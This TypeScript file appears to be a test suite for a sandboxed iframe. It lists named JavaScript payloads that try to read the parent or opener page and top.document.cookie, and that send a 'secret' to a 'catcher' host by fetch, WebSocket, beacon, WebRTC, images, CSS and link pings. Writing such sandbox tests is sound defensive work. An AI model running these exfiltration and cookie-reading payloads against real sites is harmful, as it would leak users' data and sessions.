import { type Attack, click, element, html, wait, LEFT } from './attack.ts';

/** Attacks on what's around the frame. */
export const outward: readonly Attack[] = [
  { name: 'reads the page', code: `out(parent.document.title)` },
  { name: 'reads the top page', code: `out(top.document.cookie)` },
  {
    name: 'writes into the page',
    alone: 'to-succeed',
    code: `parent.document.body.dataset.attacked = '1'; out('written')`,
  },
  { name: 'reads frames of the page', code: `out(parent.frames[0].parent.location.href)` },
  {
    name: 'reads the element that holds it',
    code: `if (window.frameElement) out(frameElement.outerHTML)`,
  },
  { name: 'reads the page that has opened this one', code: `out(top.opener.document.title)` },
  {
    name: 'takes along the page that has opened this one',
    alone: 'to-succeed',
    code: `top.opener.location.replace(catcher + '/opener'); ${wait}`,
    paths: ['opener'],
  },
  {
    name: 'sets and reads cookies',
    alone: 'to-succeed',
    code: `document.cookie = 'attack=1'; if (document.cookie.includes('attack')) out(document.cookie)`,
  },
  {
    name: 'uses localStorage',
    alone: 'to-succeed',
    code: `localStorage.setItem('attack', '1'); out(JSON.stringify(localStorage))`,
  },
  {
    name: 'uses sessionStorage',
    alone: 'to-succeed',
    code: `out(JSON.stringify(sessionStorage)); sessionStorage.setItem('attack', '1')`,
  },
  {
    name: 'uses IndexedDB',
    code: `await new Promise((resolve, reject) => {
      const request = indexedDB.open('attack');
      request.onsuccess = resolve;
      request.onerror = () => reject(request.error);
    }); out('opened')`,
  },
  { name: 'uses the cache storage', code: `await caches.open('attack'); out('opened')` },
  { name: 'uses the cookie store', code: `await cookieStore.set('attack', '1'); out('set')` },
  {
    name: 'talks to pages by a broadcast channel',
    code: `new BroadcastChannel('attack').postMessage('1'); out('sent')`,
  },
];

/** Attacks that use the network. */
export const network: readonly Attack[] = [
  { name: 'fetch', code: `await fetch(catcher + '/fetch?secret'); out('sent')` },
  {
    name: 'fetch without CORS, kept alive',
    code: `await fetch(new Request(catcher + '/fetch', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'secret' }))`,
  },
  {
    name: 'XMLHttpRequest',
    code: `const request = new XMLHttpRequest(); request.open('POST', catcher + '/xhr'); request.send('secret'); ${wait}`,
  },
  { name: 'WebSocket', code: `new WebSocket(catcher.replace('http', 'ws') + '/socket?secret'); ${wait}` },
  { name: 'EventSource', code: `new EventSource(catcher + '/events?secret'); ${wait}` },
  { name: 'beacon', code: `navigator.sendBeacon(catcher + '/beacon', 'secret'); ${wait}` },
  {
    // The catcher doesn't support HTTP/3, so the attack counts if the frame can create one at all.
    name: 'WebTransport',
    code: `new WebTransport(catcher.replace('http:', 'https:') + '/transport'); out('made')`,
  },
  {
    name: 'peer connection',
    udp: 0,
    code: `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + udpPort }] });
      peer.createDataChannel('secret'); await peer.setLocalDescription(await peer.createOffer()); ${wait}`,
  },
  {
    name: 'peer connection, of a new empty frame',
    udp: 1,
    code: `const frame = document.createElement('iframe'); document.body.append(frame);
      const peer = new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + udpPort }] });
      peer.createDataChannel('secret'); await peer.setLocalDescription(await peer.createOffer()); ${wait}`,
  },
  {
    name: 'peer connection, by its old name or from a prototype',
    udp: 2,
    code: `const Peer = window.webkitRTCPeerConnection ?? Object.getPrototypeOf(window).RTCPeerConnection;
      const peer = new Peer({ iceServers: [{ urls: 'stun:127.0.0.1:' + udpPort }] });
      peer.createDataChannel('secret'); await peer.setLocalDescription(await peer.createOffer()); ${wait}`,
  },
  { name: 'image', code: `new Image().src = catcher + '/image?secret'; ${wait}` },
  {
    name: 'image by srcset, picture and SVG',
    code: html(
      `<img srcset="\${catcher}/srcset 2x"><picture><source srcset="\${catcher}/picture"><img></picture><svg><image href="\${catcher}/svg"/></svg>`,
    ),
    paths: ['srcset', 'picture', 'svg'],
  },
  {
    name: 'video, audio, track and poster',
    code: html(
      `<video crossorigin src="\${catcher}/video" poster="\${catcher}/poster" autoplay muted><track default src="\${catcher}/track"></video><audio src="\${catcher}/audio" preload="auto"></audio>`,
    ),
    paths: ['video', 'poster', 'track', 'audio'],
  },
  {
    name: 'font',
    code: `await new FontFace('Attack', 'url("' + catcher + '/font?secret")').load().catch(() => undefined); ${wait}`,
  },
  {
    name: 'CSS: background, import, font face, list, cursor',
    code: html(
      `<style>@import url("\${catcher}/import.css"); @font-face { font-family: A; src: url("\${catcher}/face"); } body { font-family: A; cursor: url("\${catcher}/cursor"), auto; }</style><p style="background: url(\${catcher}/background)">a</p><p style="list-style-image: url(\${catcher}/list)">a</p>`,
    ),
    paths: ['import.css', 'face', 'background', 'cursor', 'list'],
  },
  {
    name: 'constructed style sheet',
    code: `const sheet = new CSSStyleSheet(); sheet.replaceSync('body { background: url("' + catcher + '/sheet") }');
      document.adoptedStyleSheets = [sheet]; ${wait}`,
  },
  {
    name: 'links that load: style sheet, prefetch, preload, module',
    code: `for (const rel of ['stylesheet', 'prefetch', 'preload', 'modulepreload'])
      document.head.append(Object.assign(document.createElement('link'), { rel, as: 'script', href: catcher + '/' + rel + '.js' })); ${wait}`,
    paths: ['stylesheet.js', 'prefetch.js', 'preload.js', 'modulepreload.js'],
  },
  {
    name: 'speculation rules',
    code: element(
      'script',
      `{ type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [catcher + '/speculation'] }] }) }`,
    ),
    neverOut: 'frames do not speculate',
  },
  {
    // Its fragment is a step in the reader's history, which ends the frame.
    name: 'ping of a link',
    ends: LEFT,
    code: click(`<a href="#a" ping="\${catcher}/ping">a</a>`),
  },
  {
    name: 'policy report',
    alone: 'always',
    code: `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="Content-Security-Policy" content="img-src none; report-uri ' + catcher + '/report">');
      new Image().src = 'data:,a'; ${wait}`,
    neverOut: 'no browser reports for a policy in the page',
  },
];
